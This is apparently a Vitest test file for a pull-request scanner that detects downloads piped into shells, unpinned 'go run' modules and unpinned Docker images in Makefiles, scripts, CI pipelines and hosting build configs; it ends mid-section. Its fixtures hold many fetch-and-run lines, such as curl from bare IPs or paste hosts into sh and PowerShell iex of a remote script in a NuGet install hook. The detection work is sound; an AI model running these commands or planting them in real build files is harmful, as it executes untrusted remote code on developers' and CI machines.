import { describe, expect, it } from 'vitest';
import { findPipeToShell, vendorInstallerHost } from '../../../src/ecosystems/shell/pipe-to-shell.js';
import { findGoRunUnpinned } from '../../../src/ecosystems/shell/go-run.js';
import { removedPipes, runsAsShell, scriptDownloadFindings, wantsDockerRunContext } from '../../../src/ecosystems/shell/script-downloads.js';
import { makeFile } from '../../support/snapshot-factory.js';

const patchOf = (removed: string[], added: string[]) => [`@@ -1,${removed.length + 1} +1,${added.length + 1} @@`, ' all: build', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
const found = (path: string, removed: string[], added: string[]) => scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) })).map((f) => `${f.severity} ${f.path}:${f.line}`);

describe('curl-pipe-shell in scripts and task files', () => {
  it('knows which files a shell runs', () => {
    for (const path of ['Makefile', 'sub/GNUmakefile', 'mk/tools.mk', 'Makefile.common', 'build/Makefile.docker', 'justfile', 'Taskfile.yml', '.envrc', 'scripts/install.sh', 'ci/run.bash']) expect(runsAsShell(path), path).toBe(true);
    for (const path of ['Makefile.am', 'Makefile.in', 'Makefile.orig', 'README.md', 'docs/install.md', 'src/shell.ts', 'makefile.txt', 'docs/Makefile.md']) expect(runsAsShell(path), path).toBe(false);
  });

  it('reports a download piped to a shell that the PR adds: medium, high over HTTP, from a bare IP or a paste host', () => {
    expect(found('Makefile', [], ['\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(GOPATH)/bin v1.61.0'])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', [], ['setup:', '\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:3']);
    expect(found('.envrc', [], ['export PATH=$PWD/bin:$PATH', 'curl -s https://paste.ee/r/abc | bash'])).toEqual(['high .envrc:3']);
    expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
    // A gist is anyone's paste (the tj-actions payload came from one); a repository's own raw file is not.
    expect(found('Makefile', [], ['test:', '\tcurl -sSL https://gist.githubusercontent.com/xyz/abc/raw/prep.sh | sh', '\tgo test ./...'])).toEqual(['high Makefile:3']);
    expect(found('Makefile', [], ['test:', '\tcurl -sSL https://raw.githubusercontent.com/acme/tools/main/prep.sh | sh'])).toEqual(['medium Makefile:3']);
  });

  it('reads a shell or interpreter named by its path (`| /bin/bash`, `| /usr/bin/python3`), not a pipe into another program', () => {
    expect(found('scripts/bootstrap.sh', [], ['wget -O - https://get.example.dev/a31546bf | /bin/bash &'])).toEqual(['medium scripts/bootstrap.sh:2']);
    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.py | /usr/bin/python3 -'])).toEqual(['medium scripts/bootstrap.sh:2']);
    expect(found('scripts/bootstrap.sh', [], ['curl -s https://get.example.dev/x.tgz | /usr/bin/tar -xz'])).toEqual([]);
  });

  it("reads PowerShell scripts (a NuGet package's tools/install.ps1, a setup.ps1): a download run by Invoke-Expression", () => {
    expect(runsAsShell('tools/install.ps1')).toBe(true);
    expect(runsAsShell('build/Helpers.psm1')).toBe(true);
    expect(found('tools/install.ps1', [], ['param($installPath, $toolsPath, $package, $project)', "iex (New-Object Net.WebClient).DownloadString('http://45.77.12.9/a.ps1')"])).toEqual(['high tools/install.ps1:3']);
    expect(found('scripts/setup.ps1', [], ['irm https://get.example.dev/install.ps1 | iex'])).toEqual(['medium scripts/setup.ps1:2']);
    expect(found('scripts/setup.ps1', [], ['Invoke-WebRequest -Uri $ToolUrl -OutFile "$env:TEMP\\tool.zip"', 'Expand-Archive "$env:TEMP\\tool.zip" -DestinationPath tools'])).toEqual([]);
  });

  it('reads other CI systems\' pipelines (high, as a workflow), Rakefiles and //go:generate directives', () => {
    for (const path of ['.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml', 'azure-pipelines.yml', '.travis.yml', 'bitbucket-pipelines.yml', '.buildkite/pipeline.yml', '.cirrus.yml', '.azure-pipelines/release.yml', '.gitlab/ci/deploy.yml', '.circleci/continue.yml']) {
      expect(found(path, [], ['    - curl -fsSL https://get.example.dev/install.sh | bash']), path).toEqual([`high ${path}:2`]);
    }
    expect(found('Rakefile', [], ['task :setup do', '  sh "curl -s https://get.example.dev/x | bash"', 'end'])).toEqual(['medium Rakefile:3']);
    // tox hands each line of `commands` to its shell: a task file too.
    expect(runsAsShell('tox.ini')).toBe(true);
    expect(found('tox.ini', [], ['[testenv]', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.tooling-mirror.dev/t.sh | bash"', '    pytest'])).toEqual(['medium tox.ini:5']);
    expect(found('tox.ini', [], ['[testenv]', 'deps = pytest', 'commands = pytest {posargs}'])).toEqual([]);
    expect(found('internal/store/mocks.go', [], ['//go:generate sh -c "curl -s http://45.61.136.13/g.sh | sh"'])).toEqual(['high internal/store/mocks.go:2']);
    // Over https, medium: it runs only when a developer runs `go generate`, not on every build or install; an ordinary generator stays quiet.
    expect(found('kinds/kinds.go', [], ['//go:generate sh -c "curl -sSL https://raw.githubusercontent.com/acme/tools/main/gen.sh | sh"', '//go:generate stringer -type=Kind'])).toEqual(['medium kinds/kinds.go:2']);
    expect(found('kinds/kinds.go', [], ['//go:generate stringer -type=Kind', '//go:generate go run golang.org/x/tools/cmd/stringer@v0.24.0 -type=Mode'])).toEqual([]);
    // In Go only the directive is a command: a string or comment that mentions one is not.
    expect(found('internal/docs/install.go', [], ['// Install with: curl -fsSL https://get.example.dev/x | sh', 'const hint = "curl https://get.example.dev/x | sh"'])).toEqual([]);
  });

  it("reads the build commands hosting services run for every PR's preview (Netlify, Vercel, Read the Docs, Amplify, Render): high, as CI", () => {
    expect(found('netlify.toml', [], ['[build]', '  command = "curl -fsSL https://get.example.dev/setup.sh | bash && npm run build"'])).toEqual(['high netlify.toml:3']);
    expect(found('vercel.json', [], ['  "installCommand": "curl -s http://45.61.136.13/i.sh | sh; npm ci",'])).toEqual(['high vercel.json:2']);
    expect(found('docs/.readthedocs.yaml', [], ['    post_install:', '      - curl -sSL https://get.example.dev/x | python3 -'])).toEqual(['high docs/.readthedocs.yaml:3']);
    const finding = scriptDownloadFindings(makeFile('amplify.yml', { patch: patchOf([], ['        - curl -fsSL https://get.example.dev/x.sh | sh']) }))[0];
    expect(finding?.detail).toContain("hosting service's build of this PR's preview");
    // Their ordinary commands, and the same names elsewhere in a path, are quiet.
    expect(found('netlify.toml', [], ['[build]', '  command = "npm run build"', '  publish = "dist"'])).toEqual([]);
    expect(runsAsShell('docs/vercel.json.md')).toBe(false);
  });

  it('is quiet on a command the PR only moves or re-indents, on comments, and on downloads not run', () => {
    const line = '\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.61.0';
    expect(found('Makefile', [line], ['lint: bin/golangci-lint', line])).toEqual([]);
    expect(found('Makefile', [], ['# curl https://example.com/x.sh | sh was how it used to be installed'])).toEqual([]);
    expect(found('scripts/fetch.sh', [], ['curl -fsSLo tools.tgz https://example.com/tools.tgz', 'sha256sum -c tools.sha256'])).toEqual([]);
    expect(found('docs/install.md', [], ['curl -fsSL https://example.com/install.sh | sh'])).toEqual([]);
  });

  it('is quiet on a version bump of an installer already piped (same host, path shape and interpreter), and reports a new source', () => {
    const at = (version: string) => `\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/${version}/install.sh | sh -s -- -b $(LOCALBIN) ${version}`;
    expect(found('Makefile', [at('v1.54.2')], [at('v1.55.0')])).toEqual([]);
    expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh -s -- v2.3'], ['\tcurl -fsSL https://get.tool.dev/install.sh | sh -s -- v2.4'])).toEqual([]);
    // Another host, another path or another interpreter is a new installer.
    expect(found('Makefile', [at('v1.54.2')], [at('v1.55.0').replace('raw.githubusercontent.com/golangci', 'raw.githubusercontent.com/golang-ci')])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh'], ['\tcurl -fsSL https://get.tool.dev/setup.sh | sh'])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', ['\tcurl -sSL http://10.0.0.1/i.sh | sh'], ['\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:2']);
  });

  it("is quiet on the same repository's script at another ref (golangci-lint #5377: master to HEAD), and reports another repository or file", () => {
    const raw = (ref: string, owner = 'golangci', file = 'install.sh') => `\tcurl -sSfL https://raw.githubusercontent.com/${owner}/golangci-lint/${ref}/${file} | sh`;
    expect(found('scripts/bench/bench_local.sh', [raw('master')], [raw('HEAD')])).toEqual([]);
    expect(found('Makefile', [raw('refs/heads/main')], [raw('v2.1.0')])).toEqual([]);
    expect(found('Makefile', ['\tcurl -fsSL https://github.com/acme/tool/raw/main/install.sh | bash'], ['\tcurl -fsSL https://github.com/acme/tool/raw/v3.0.0/install.sh | bash'])).toEqual([]);
    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci-fork')])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci', 'setup.sh')])).toEqual(['medium Makefile:2']);
    // Another host is another source, even the project's own domain.
    expect(found('Makefile', [raw('HEAD')], ['\tcurl -sSfL https://golangci-lint.run/install.sh | sh'])).toEqual(['medium Makefile:2']);
  });

  it("is quiet on a vendored dependency's own CI pipeline and Makefile (golangci-lint's vendor/ of 2018), not on its scripts or on the project's own files", () => {
    const vendored = (path: string) => scriptDownloadFindings(makeFile(path, { patch: patchOf([], ['    - curl -sL https://git.io/goreleaser | bash']) }), true).map((f) => f.path);
    expect(vendored('vendor/github.com/goreleaser/nfpm/.travis.yml')).toEqual([]);
    expect(vendored('vendor/github.com/goreleaser/goreleaser/Makefile')).toEqual([]);
    expect(vendored('third_party/tool/scripts/install.sh')).toEqual(['third_party/tool/scripts/install.sh']);
    expect(found('.travis.yml', [], ['    - curl -sL https://git.io/goreleaser | bash'])).toEqual(['high .travis.yml:2']);
  });

  it("is quiet on the same installer with other options (kubebuilder #5468: curl to curl -fsSL, get-helm-3 to get-helm-4), and reports TLS checks turned off or a new value", () => {
    const helm = (options: string, major: number) => `\t@curl ${options}https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-${major} | bash`;
    expect(found('Makefile', [helm('', 3)], [helm('-fsSL ', 4)])).toEqual([]);
    expect(found('Makefile', ['\twget -q -O- https://get.tool.dev/i.sh | sh -s -- -b bin'], ['\twget -qO- https://get.tool.dev/i.sh | sh -s -- -b bin'])).toEqual([]);
    expect(found('Makefile', [helm('-fsSL ', 3)], [helm('-fsSLk ', 3)])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', [helm('', 3)], [helm('--insecure ', 3)])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', ['\twget -qO- https://get.tool.dev/i.sh | sh'], ['\twget --no-check-certificate -qO- https://get.tool.dev/i.sh | sh'])).toEqual(['medium Makefile:2']);
    expect(found('Makefile', [helm('-fsSL ', 3)], [helm('-fsSL --resolve raw.githubusercontent.com:443:45.61.136.13 ', 3)])).toEqual(['medium Makefile:2']);
  });

  it('is quiet on a command moved from another file of the PR (operator-sdk #2338), unless it moves from a script into a CI pipeline', () => {
    const lint = '    curl -sfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh| sh -s -- -b $(go env GOPATH)/bin v1.21.0';
    const pr = (from: string, to: string) => {
      const files = [makeFile(from, { patch: patchOf([lint], []) }), makeFile(to, { patch: patchOf([], [lint]) })];
      const moved = removedPipes(files);
      return files.flatMap((f) => scriptDownloadFindings(f, false, moved)).map((f) => `${f.severity} ${f.path}`);
    };
    expect(pr('hack/common.sh', 'hack/tests/check-lint.sh')).toEqual([]);
    expect(pr('hack/check-lint.sh', 'Makefile')).toEqual([]);
    expect(pr('.travis.yml', '.gitlab-ci.yml')).toEqual([]);
    // Into a CI pipeline: reported, medium since golangci-lint's installer comes from its own repository.
    expect(pr('hack/common.sh', '.gitlab-ci.yml')).toEqual(['medium .gitlab-ci.yml']);
    // Removed elsewhere in another form is not this command.
    const other = [makeFile('hack/common.sh', { patch: patchOf(['    curl -sfL https://get.tool.dev/i.sh | sh'], []) }), makeFile('Makefile', { patch: patchOf([], [lint]) })];
    expect(other.flatMap((f) => scriptDownloadFindings(f, false, removedPipes(other))).map((f) => f.path)).toEqual(['Makefile']);
  });
});


describe('a download handed to a shell or an interpreter through substitution', () => {
  it('finds process substitution into an interpreter or source, and command substitution into eval or -c/-e', () => {
    expect(findPipeToShell('python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)')).toEqual(['python3 <(curl -s https://gist.githubusercontent.com/x/raw/ci.py)']);
    expect(findPipeToShell('[ -n "$CI" ] && source <(curl -s https://x.dev/env.sh)')).toEqual(['source <(curl -s https://x.dev/env.sh)']);
    expect(findPipeToShell('if true; then . <(wget -qO- https://x.dev/env.sh); fi')).toEqual(['. <(wget -qO- https://x.dev/env.sh)']);
    expect(findPipeToShell('eval "$(curl -fsSL https://x.dev/env)"')).toEqual(['eval "$(curl -fsSL https://x.dev/env)']);
    expect(findPipeToShell('node -e "$(curl -s https://x.dev/p.js)"')).toEqual(['node -e "$(curl -s https://x.dev/p.js)']);
  });

  it('is quiet on a substitution handed to a program that runs nothing', () => {
    expect(findPipeToShell('diff <(curl -s https://a.dev/x) <(curl -s https://b.dev/x)')).toEqual([]);
    expect(findPipeToShell('jq . <(curl -s https://api.dev/x)')).toEqual([]);
    expect(findPipeToShell('VERSION="$(curl -s https://api.dev/latest)"')).toEqual([]);
  });

  it('reports such a line in a script as a piped download', () => {
    expect(found('scripts/ci.sh', [], ['python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)'])).toEqual(['high scripts/ci.sh:2']);
  });
});

describe("a tool vendor's own installer (vendorInstallerHost)", () => {
  it('counts an installer host the vendor alone publishes on, and a listed repository on the shared GitHub hosts', () => {
    expect(vendorInstallerHost('curl --proto =https -sSf https://sh.rustup.rs | sh')).toBe('sh.rustup.rs');
    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(go env GOPATH)/bin v1.61.0')).toBe('github.com/golangci/golangci-lint');
    expect(vendorInstallerHost('curl -fsSL https://raw.githubusercontent.com/Helm/helm/main/scripts/get-helm-3 | bash')).toBe('github.com/helm/helm');
    expect(vendorInstallerHost('curl -fsSL https://github.com/nvm-sh/nvm/raw/v0.40.1/install.sh | bash')).toBe('github.com/nvm-sh/nvm');
  });

  it("does not count another account's file on GitHub, plain HTTP or a check of the certificate turned off", () => {
    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/golangci-lint/golangci-lint/master/install.sh | sh')).toBeNull();
    expect(vendorInstallerHost('curl -sSfL https://raw.githubusercontent.com/someone/tools/main/install.sh | sh')).toBeNull();
    expect(vendorInstallerHost('curl -sSfL http://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh')).toBeNull();
    expect(vendorInstallerHost('curl -k -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh')).toBeNull();
  });

  it('makes a CI pipeline that pipes a listed installer medium, another high', () => {
    const ci = (line: string) => scriptDownloadFindings(makeFile('.travis.yml', { patch: patchOf([], [`  - ${line}`]) })).map((f) => f.severity);
    expect(ci('curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $GOPATH/bin v1.61.0')).toEqual(['medium']);
    expect(ci('curl -sSfL https://raw.githubusercontent.com/someone/tools/main/install.sh | sh')).toEqual(['high']);
  });
});

describe('curl-pipe-shell over continuation lines', () => {
  it('reads a script command split over lines as one, at the line of the download, when the PR changes any of its lines', () => {
    expect(found('scripts/setup.sh', [], ['curl -fsSL https://get.example-tools.dev/install.sh \\', '  | bash'])).toEqual(['medium scripts/setup.sh:2']);
    expect(found('.gitlab-ci.yml', [], ['    - curl -fsSL \\', '        https://get.example-tools.dev/install.sh | sh'])).toEqual(['high .gitlab-ci.yml:2']);
    // Only the piped line changed, under a context line that downloads.
    const patch = ['@@ -1,2 +1,2 @@', ' curl -fsSL https://get.example-tools.dev/install.sh \\', '-  -o install.sh', '+  | bash'].join('\n');
    expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch })).map((f) => `${f.id} ${f.line}`)).toEqual(['curl-pipe-shell 1']);
  });

  it('leaves a pipe only re-wrapped, a download saved to a file, and an escaped backslash alone', () => {
    expect(found('scripts/setup.sh', ['curl -fsSL https://get.example-tools.dev/install.sh | bash'], ['curl -fsSL https://get.example-tools.dev/install.sh \\', '  | bash'])).toEqual([]);
    expect(found('scripts/setup.sh', [], ['curl -fsSL \\', '  -o install.sh https://get.example-tools.dev/install.sh'])).toEqual([]);
    expect(found('scripts/setup.sh', [], ['echo "done" \\\\', '| bash'])).toEqual([]);
  });
});

describe('curl-pipe-shell: an archive a script downloads, unpacks and runs a script from', () => {
  it('reports it on the lines the PR adds: medium in a script, high in a CI pipeline or from a bad source', () => {
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSLo /tmp/agent.tgz https://cdn.devtool-mirror.dev/agent.tar.gz', 'tar xzf /tmp/agent.tgz -C /tmp', '/tmp/agent/install.sh --yes'])).toEqual(['medium scripts/bootstrap.sh:2']);
    expect(found('.gitlab-ci.yml', [], ['    - curl -fsSL https://cdn.devtool-mirror.dev/agent.tar.gz | tar xz && ./agent/install.sh'])).toEqual(['high .gitlab-ci.yml:2']);
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSL http://185.199.1.2/agent.tar.gz | tar xz && sh agent/setup'])).toEqual(['high scripts/bootstrap.sh:2']);
  });

  it('leaves the base\'s download, a binary unpacked and used, the project\'s own script and a verified archive alone', () => {
    expect(found('scripts/bootstrap.sh', ['curl -fsSL https://cdn.devtool-mirror.dev/agent.tar.gz | tar xz && ./agent/install.sh'], ['curl -fsSL https://cdn.devtool-mirror.dev/agent.tar.gz | tar xz && ./agent/install.sh --yes'])).toEqual([]);
    expect(found('scripts/bootstrap.sh', [], ['curl -sSL https://github.com/acme/tool/releases/download/v1.2.0/tool_linux_amd64.tar.gz | tar xz -C /usr/local/bin tool', 'tool --version'])).toEqual([]);
    expect(found('scripts/bootstrap.sh', [], ['curl -sSL https://cache.example-ci.dev/deps.tar.gz | tar xz', './scripts/build.sh'])).toEqual([]);
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSLo agent.tgz https://cdn.devtool-mirror.dev/agent.tar.gz', 'sha256sum -c agent.tgz.sha256', 'tar xzf agent.tgz && ./agent/install.sh'])).toEqual([]);
  });

  it('counts a checksum check only for the archive it verifies, between its download and its unpacking', () => {
    const agent = ['curl -fsSLo agent.tgz https://cdn.devtool-mirror.dev/agent.tar.gz', 'tar xzf agent.tgz && ./agent/install.sh'];
    // Node's archive checked, then another archive fetched and its installer run unchecked.
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSLo node.tgz https://nodejs.org/dist/v22.11.0/node-v22.11.0-linux-x64.tar.gz', 'echo "$NODE_SUM  node.tgz" | sha256sum -c -', 'tar xzf node.tgz -C /usr/local --strip-components=1', ...agent])).toEqual(['medium scripts/bootstrap.sh:5']);
    // Another file's check between the download and the unpacking, or a check after the run.
    expect(found('scripts/bootstrap.sh', [], [agent[0]!, 'sha256sum -c tools.tgz.sha256', agent[1]!])).toEqual(['medium scripts/bootstrap.sh:2']);
    expect(found('scripts/bootstrap.sh', [], [...agent, 'sha256sum -c agent.tgz.sha256'])).toEqual(['medium scripts/bootstrap.sh:2']);
    // Piped into tar: no check can stand between.
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSL https://cdn.devtool-mirror.dev/agent.tar.gz | tar xz && ./agent/install.sh', 'sha256sum -c SHA256SUMS'])).toEqual(['medium scripts/bootstrap.sh:2']);
  });

  it('leaves an archive checked between its download and its unpacking: named, by a list of sums, by its signature, or in its own pipe', () => {
    const download = 'curl -fsSLo agent.tgz https://cdn.devtool-mirror.dev/agent.tar.gz';
    const run = 'tar xzf agent.tgz && ./agent/install.sh';
    for (const check of ['echo "$AGENT_SUM  agent.tgz" | sha256sum -c -', 'sha256sum -c --ignore-missing SHA256SUMS', 'gpg --batch --verify agent.tgz.asc agent.tgz', 'echo "$AGENT_SUM  $ARCHIVE" | sha256sum -c -']) {
      expect(found('scripts/bootstrap.sh', [], [download, check, run]), check).toEqual([]);
    }
    expect(found('scripts/bootstrap.sh', [], ['curl -fsSL https://cdn.devtool-mirror.dev/agent.tar.gz | tee agent.tgz | sha256sum -c agent.sha256', run])).toEqual([]);
  });
});

describe('go-run-unpinned', () => {
  const goRun = (path: string, removed: string[], added: string[], vendored = false) =>
    scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) }), vendored).filter((f) => f.id === 'go-run-unpinned').map((f) => `${f.severity} ${f.path}:${f.line}`);

  it('reports go run of a module at a moving ref: a branch medium, @latest low, anything in a CI pipeline medium', () => {
    expect(goRun('internal/store/store.go', [], ['//go:generate go run github.com/mock-tools/mockgen@master -source=store.go -destination=mocks/store.go'])).toEqual(['medium internal/store/store.go:2']);
    expect(goRun('api/gen.go', [], ['//go:generate -command oapi go run github.com/oapi-codegen/oapi-codegen/v2/cmd/oapi-codegen@latest', '//go:generate oapi -config cfg.yaml api.yaml'])).toEqual(['low api/gen.go:2']);
    expect(goRun('Makefile', [], ['lint:', '\t$(GO) run -mod=mod github.com/lint-tools/golint-ng@HEAD ./...'])).toEqual(['medium Makefile:3']);
    expect(goRun('scripts/gen.sh', [], ['go run "golang.org/x/tools/cmd/stringer@latest" -type=Kind'])).toEqual(['low scripts/gen.sh:2']);
    expect(goRun('.gitlab-ci.yml', [], ['    - go run github.com/acme/release-tool@latest publish'])).toEqual(['medium .gitlab-ci.yml:2']);
    expect(findGoRunUnpinned('\t/usr/local/go/bin/go run -tags tools example.dev/gen/cmd/gen@dev')).toEqual({ target: 'example.dev/gen/cmd/gen@dev', ref: 'branch', verb: 'run' });
    expect(findGoRunUnpinned('VERSION := $(shell go run github.com/acme/gen@latest version)')).toEqual({ target: 'github.com/acme/gen@latest', ref: 'release', verb: 'run' });
  });

  it('reads a command split over continuation lines as one, the line it is reported at the module', () => {
    expect(goRun('Makefile', [], ['lint:', '\tgo run -mod=mod \\', '\t  github.com/lint-tools/golint-ng@HEAD ./...'])).toEqual(['medium Makefile:4']);
    expect(goRun('scripts/gen.sh', [], ['go run \\', '  golang.org/x/tools/cmd/stringer@latest \\', '  -type=Kind'])).toEqual(['low scripts/gen.sh:3']);
    // Only the continuation line changed: the command it continues is a context line.
    const patch = ['@@ -1,3 +1,3 @@', ' lint:', ' \tgo run -mod=mod \\', '-\t  github.com/lint-tools/golint-ng@v1.2.0 ./...', '+\t  github.com/lint-tools/golint-ng@main ./...'].join('\n');
    expect(scriptDownloadFindings(makeFile('Makefile', { patch })).filter((f) => f.id === 'go-run-unpinned').map((f) => `${f.severity} ${f.line}`)).toEqual(['medium 3']);
  });

  it('leaves a continued command pinned, moved or only re-wrapped alone', () => {
    expect(goRun('Makefile', [], ['lint:', '\tgo run -mod=mod \\', '\t  github.com/lint-tools/golint-ng@v1.2.0 ./...'])).toEqual([]);
    expect(goRun('Makefile', ['\tgo run github.com/lint-tools/golint-ng@HEAD ./...'], ['\tgo run \\', '\t  github.com/lint-tools/golint-ng@HEAD ./...'])).toEqual([]);
    expect(goRun('scripts/gen.sh', [], ['echo "go run \\\\"', 'github.com/acme/gen@latest'])).toEqual([]);
  });

  it('leaves pinned and local runs alone, and comments, strings, moved lines and vendored files', () => {
    expect(goRun('internal/store/store.go', [], ['//go:generate go run ./cmd/gen -out zz_generated.go', '//go:generate go run gen.go', '//go:generate go run github.com/golang/mock/mockgen -source=store.go'])).toEqual([]);
    expect(goRun('Makefile', [], ['\tgo run golang.org/x/tools/cmd/stringer@v0.28.0 -type=Kind', '\tgo run github.com/acme/gen@v0.0.0-20240102150405-0123456789ab', '\tgo run github.com/acme/gen@4f2a9c1d'])).toEqual([]);
    expect(goRun('tools/doc.go', [], ['// Regenerate with: go run github.com/acme/gen@latest', 'const hint = "go run github.com/acme/gen@latest"'])).toEqual([]);
    expect(goRun('Makefile', ['\tgo run github.com/acme/gen@latest ./...'], ['\tgo run github.com/acme/gen@latest ./...'])).toEqual([]);
    expect(goRun('vendor/github.com/x/y/gen.go', [], ['//go:generate go run github.com/x/gen@master'], true)).toEqual([]);
    expect(findGoRunUnpinned('docker run --rm -v $PWD:/src user@example.com')).toBeNull();
    expect(findGoRunUnpinned('npm run build -- --registry=https://npm.example.dev/@scope')).toBeNull();
  });
});

describe('docker-unpinned-image in scripts, Makefiles and other pipelines', () => {
  const images = (path: string, removed: string[], added: string[], head?: string) =>
    scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) }), false, new Map(), head === undefined ? undefined : { base: null, head })
      .filter((f) => f.id === 'docker-unpinned-image')
      .map((f) => `${f.severity} ${f.path}:${f.line} ${f.package}`);
  const DIGEST = `@sha256:${'a'.repeat(64)}`;
  it('reports an image that a command the PR adds runs by a tag (low) or by none or latest (medium), through a variable the file assigns too', () => {
    expect(images('Makefile', [], ['lint:', '	@docker run --rm -v $(PWD):/app -w /app golangci/golangci-lint:v1.59.1 golangci-lint run'])).toEqual(['low Makefile:3 golangci/golangci-lint']);
    expect(images('scripts/lint.sh', [], ['docker run --rm -v "$PWD:/mnt" \\', '  koalaman/shellcheck scripts/*.sh'])).toEqual(['medium scripts/lint.sh:2 koalaman/shellcheck']);
    expect(images('Makefile', [], ['LINT_IMAGE ?= golangci/golangci-lint:latest', 'lint:', '	docker run --rm $(LINT_IMAGE) golangci-lint run'])).toEqual(['medium Makefile:4 golangci/golangci-lint']);
    expect(images('ci/e2e.sh', [], ['docker run --rm "${IMAGE}" ./e2e'], 'IMAGE="${IMAGE:-ghcr.io/acme/e2e:2.1}"\ndocker run --rm "${IMAGE}" ./e2e\n')).toEqual(['low ci/e2e.sh:2 ghcr.io/acme/e2e']);
    expect(images('.gitlab-ci.yml', [], ['  script:', '    - sudo podman run --rm alpine sh -c "apk add curl"'])).toEqual(['medium .gitlab-ci.yml:3 alpine']);
  });

  it('reports a docker run inside a recipe\'s if, after then or else, on one line or continued', () => {
    expect(images('Makefile', [], ['lint:', '\tif [ -n "$$CI" ]; then docker run --rm -v $$PWD:/src -e GITHUB_TOKEN lintco/linter:latest run; fi'])).toEqual(['medium Makefile:3 lintco/linter']);
    expect(images('Makefile', [], ['fmt:', '\t@if command -v gofmt >/dev/null; then \\', '\t  gofmt -w . ; \\', '\telse \\', '\t  docker run --rm -v $$(pwd):/w gofmt-tools/gofmt:latest -w . ; \\', '\tfi'])).toEqual(['medium Makefile:6 gofmt-tools/gofmt']);
  });

  it('leaves an if\'s docker run pinned by digest, or of an image the recipe builds', () => {
    expect(images('Makefile', [], ['lint:', `\tif [ -n "$$CI" ]; then docker run --rm lintco/linter:1.2${DIGEST} run; fi`])).toEqual([]);
    expect(images('Makefile', [], ['e2e:', '\tdocker build -t acme-e2e .', '\tif [ -z "$$SKIP" ]; then docker run --rm acme-e2e; else echo skipped; fi'])).toEqual([]);
  });

  it('asks for the whole file of a script, Makefile or pipeline whose patch adds a docker run', () => {
    expect(wantsDockerRunContext('Makefile', patchOf([], ['\tdocker run --rm node:20 npm test']))).toBe(true);
    expect(wantsDockerRunContext('scripts/e2e.sh', patchOf([], ['podman container run alpine true']))).toBe(true);
    expect(wantsDockerRunContext('Makefile', patchOf(['\tdocker run --rm node:20 npm test'], ['\tnpm test']))).toBe(false);
    expect(wantsDockerRunContext('src/docker.ts', patchOf([], ["exec('docker run node')"]))).toBe(false);
  });

  it('leaves digests, variables pinned or set elsewhere, images the file builds, local registries, runs the base had, and vendored files', () => {
    expect(images('Makefile', [], ['lint:', `	docker run --rm golangci/golangci-lint:v1.59.1${DIGEST} golangci-lint run`])).toEqual([]);
    expect(images('Makefile', [], [`LINT_IMAGE ?= golangci/golangci-lint:v1.59.1${DIGEST}`, 'lint:', '	docker run --rm $(LINT_IMAGE) golangci-lint run'])).toEqual([]);
    expect(images('Makefile', [], ['lint:', '	docker run --rm -v $(PWD):/app $(LINT_IMAGE) golangci-lint run'])).toEqual([]);
    expect(images('scripts/e2e.sh', [], ['docker build -t myapp:test .', 'docker run --rm myapp:test npm test', 'docker run --rm localhost:5000/tools/x:1 y'])).toEqual([]);
    // Built through the same variable, or on a line of the file the hunk does not show.
    expect(images('Makefile', [], ['DOCKER_IMAGE = dnsbl-check', 'all: buildimage', '\tdocker run --rm -v $(CURDIR)/out:/out $(DOCKER_IMAGE) gox', 'buildimage:', '\tdocker build -t $(DOCKER_IMAGE) .'])).toEqual([]);
    expect(images('Makefile', [], ['tiles:', '\tdocker run --rm -v $(CURDIR)/a:/a acme/tiles-builder --country x'], 'build-tiles:\n\tdocker build -t acme/tiles-builder ./build/tiles\ntiles:\n\tdocker run --rm -v $(CURDIR)/a:/a acme/tiles-builder --country x\n')).toEqual([]);
    expect(images('Makefile', ['	docker run --rm node:20 npm test'], ['	docker run --rm -e CI=1 node:20 npm test'])).toEqual([]);
    expect(images('scripts/x.sh', [], ['docker compose run --rm app npm test', 'echo "docker run node"'])).toEqual([]);
    expect(scriptDownloadFindings(makeFile('vendor/github.com/x/y/Makefile', { patch: patchOf([], ['	docker run --rm node npm test']) }), true).filter((f) => f.id === 'docker-unpinned-image')).toEqual([]);
  });
});

describe('typosquat in scripts, Makefile recipes and other CI pipelines', () => {
  const squats = (path: string, removed: string[], added: string[]) =>
